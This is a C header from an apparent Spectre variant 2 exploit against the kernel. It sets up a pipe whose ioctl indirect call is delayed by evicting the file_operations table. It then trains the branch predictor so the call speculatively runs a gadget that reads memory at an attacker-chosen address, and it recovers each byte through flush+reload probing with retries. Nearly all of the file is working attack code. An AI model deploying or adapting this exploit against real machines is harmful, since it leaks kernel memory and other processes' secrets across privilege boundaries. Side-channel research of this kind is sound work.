/*
 * What attacks by Spectre, variant 2, do to the kernel, wherever they train its branch: the indirect
 * call of a file's ioctl function is sent to code in the kernel that reads where a register points.
 * The register holds ioctl's last argument, which is the caller's to choose. The call waits for a
 * table of functions that has been evicted.
 *
 * Which register that is differs between kernels; the attack tries all on a byte that it knows.
 */
#ifndef SPECTRE_V2_H
#define SPECTRE_V2_H

#include "attack.h"

#include <sys/ioctl.h>

#include "evict.h"
#include "gadget.h"
#include "secret.h"
#include "train.h"

enum {
	NO_COMMAND = 0x5eed,	/* of no file */
	IOCTL_IN_TABLE = 0x50,	/* offset in struct file_operations */
	ATTEMPTS = 2,
};

static const uint8_t *array;
static int file;

static inline int has_user_of_secret(void)
{
	return options.service || options.call;
}

static inline void prepare_call(void)
{
	int pipes[2];

	if (!options.address || !options.branches.count || !options.disclosures.count)
		errx(2, "expected --address, --branch and --disclosure");
	if (has_user_of_secret())
		open_secret();
	array = map_gadget(options.gadget);
	calibrate();
	prepare_eviction();
	if (pipe(pipes))
		err(1, "pipe");
	file = pipes[0];
}

static inline void make_call_late(void)
{
	flush_probe(array + SHARED_PROBE);
	evict(options.slow + IOCTL_IN_TABLE, pages_to_evict);
}

/* Makes the call, with another history than before. Returns the byte that came out, if one did. */
static inline int call_with(uint64_t address)
{
	leave_history(next_random());
	ioctl(file, NO_COMMAND, address);
	return reload_probe(array + SHARED_PROBE);
}

/* The attack's: trains the branch, and has the call read from an address. */
static int read_byte(uint64_t address);

/*
 * Using the secret has brought it near, but not its translation where another process did it. The
 * first attempt then spends what time there is on the walk, which spares it to the next.
 */
static inline int sample(int index)
{
	int value = NOTHING;

	if (has_user_of_secret())
		use_secret(index);
	for (int i = 0; i < ATTEMPTS && value == NOTHING; i++)
		value = read_byte(options.address + index);
	return value;
}

#endif
